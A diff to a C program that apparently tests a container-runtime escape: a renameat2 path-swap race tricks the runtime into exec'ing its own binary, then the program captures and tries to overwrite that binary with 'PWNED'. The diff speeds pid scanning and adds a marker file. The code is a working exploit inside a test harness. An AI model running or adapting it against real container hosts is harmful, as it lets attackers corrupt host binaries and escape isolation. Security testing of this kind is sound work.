@@ -12,13 +12,15 @@
  * A child swaps /x/true <-> /x/true-link and /x/sh <-> /x/sh-link with
  * renameat2(RENAME_EXCHANGE) in a loop, so that an execve by path that
  * the runtime checked a moment before loads /proc/self/exe: the runtime's
- * own binary. The parent scans /proc/<pid>/exe of every process for a
+ * own binary. The parent watches /proc/<pid>/exe of every process (and of
+ * the pids about to be given out) for a
  * file that is not one of the container's own programs, keeps an O_PATH fd of
  * each one found, and keeps trying to reopen it for writing (which works
  * once no process runs it any more, unless the file is out of reach):
  * on success it writes "PWNED" over its first bytes.
  *
- * It stops at the deadline or when /x/stop exists, and writes
+ * /x/held appears when it holds one. It stops at the deadline or when
+ * /x/stop exists, and writes
  * /x/result: "captured=N overwritten=N lasterr=ERRNO-NAME".
  */
 #define _GNU_SOURCE
@@ -83,18 +85,41 @@ int main(int argc, char **argv) {
     struct found found[MAX_FOUND];
     int nfound = 0, overwritten = 0, lasterr = 0;
     char path[64];
-    while (now() < deadline && access("/x/stop", F_OK) != 0) {
-        DIR *d = opendir("/proc");
-        if (!d)
+    int next = 2; /* the lowest pid not seen yet */
+    for (unsigned long round = 0; now() < deadline; round++) {
+        if (round % 64 == 0 && access("/x/stop", F_OK) == 0)
             break;
-        struct dirent *e;
-        while ((e = readdir(d)) && nfound < MAX_FOUND) {
-            if (e->d_name[0] < '1' || e->d_name[0] > '9')
-                continue;
-            snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
+        /* A full scan now and then; in between, the pids the next
+         * processes of the pid namespace will get (they are allocated in
+         * order), which is much faster than reading /proc. */
+        int pids[64], npids = 0;
+        if (round % 256 == 0) {
+            DIR *d = opendir("/proc");
+            if (!d)
+                break;
+            struct dirent *e;
+            while ((e = readdir(d)) && npids < 64) {
+                int pid = atoi(e->d_name);
+                if (pid > 0) {
+                    pids[npids++] = pid;
+                    if (pid >= next)
+                        next = pid + 1;
+                }
+            }
+            closedir(d);
+        } else {
+            /* The newest processes too: one waiting to exec (not yet
+             * readable) is already in the listing. */
+            for (int pid = next > 10 ? next - 8 : 2; npids < 24; pid++)
+                pids[npids++] = pid;
+        }
+        for (int k = 0; k < npids && nfound < MAX_FOUND; k++) {
+            snprintf(path, sizeof path, "/proc/%d/exe", pids[k]);
             int fd = open(path, O_PATH | O_CLOEXEC);
             if (fd < 0)
                 continue;
+            if (pids[k] >= next)
+                next = pids[k] + 1;
             struct stat st;
             int known = fstat(fd, &st) != 0;
             for (int i = 0; i < 4 && !known; i++)
@@ -106,8 +131,8 @@ int main(int argc, char **argv) {
                 continue;
             }
             found[nfound++] = (struct found){fd, st.st_dev, st.st_ino};
+            close(open("/x/held", O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
         }
-        closedir(d);
         for (int i = 0; i < nfound; i++) {
             if (found[i].fd < 0)
                 continue;
